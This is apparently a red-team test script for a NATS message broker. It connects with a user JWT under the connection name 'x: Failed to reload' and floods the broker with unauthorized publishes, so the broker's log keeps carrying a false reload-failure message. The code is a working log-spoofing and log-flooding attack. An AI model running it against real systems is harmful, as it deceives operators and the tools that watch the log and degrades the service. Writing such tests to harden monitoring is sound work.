// Red team 26: keeps "Failed to reload" in the broker's log: one connection through its relay,
// named so, publishing on a subject outside its grant about a thousand times a second (each publish is one
// "[ERR] ... - \"x: Failed to reload\" - ... Publish Violation" line; the broker keeps the
// connection open). Whatever reads that log for its reload's outcome reads this.
export async function run(ctx) {
  await ctx.endpoint();
  const creds = ctx.launch.auth.creds;
  const jwt = /BEGIN NATS USER JWT-+\s*(\S+)/.exec(creds)[1];
  const enc = new TextEncoder();
  let stop = false;
  ctx.signal.addEventListener("abort", () => stop = true, { once: true });
  while (!stop) {
    try {
      const conn = await Deno.connect({ hostname: "127.0.0.1", port: 4222 });
      const buf = new Uint8Array(65536);
      await conn.read(buf);
      await conn.write(enc.encode(
        "CONNECT " + JSON.stringify({
          jwt,
          sig: "",
          verbose: false,
          pedantic: false,
          headers: true,
          protocol: 1,
          name: "x: Failed to reload",
        }) + "\r\n",
      ));
      (async () => {
        try {
          while (await conn.read(buf) !== null) { /* drain */ }
        } catch { /* closed */ }
      })();
      while (!stop) {
        await conn.write(enc.encode("PUB not.mine 2\r\nhi\r\n".repeat(10)));
        await new Promise((r) => setTimeout(r, 10));
      }
    } catch {
      await new Promise((r) => setTimeout(r, 1000));
    }
  }
}
